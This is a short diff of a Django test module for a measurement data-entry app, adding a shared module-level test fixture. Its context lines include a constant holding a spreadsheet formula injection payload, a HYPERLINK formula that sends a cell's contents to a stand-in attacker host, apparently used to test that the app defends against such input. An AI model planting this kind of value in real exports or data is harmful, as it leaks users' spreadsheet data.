@@ -21,9 +21,13 @@ from measurement.entry import importer
 from measurement.models import AuditEntry, Correction, DataValue, ImportJob, Submission
 from tests.queries import assert_queries_constant
 
-from .conftest import RULE_MESSAGE, field_name, grid_fields, make_measure
+from ..permission_matrix import module_world
+from .conftest import RULE_MESSAGE, build_mworld, field_name, grid_fields, make_measure
 
 pytestmark = pytest.mark.django_db
+
+# Built once for the module: each test runs in a savepoint of it, with its own copy (module_world).
+mworld_once, mworld = module_world("mworld", build_mworld)
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
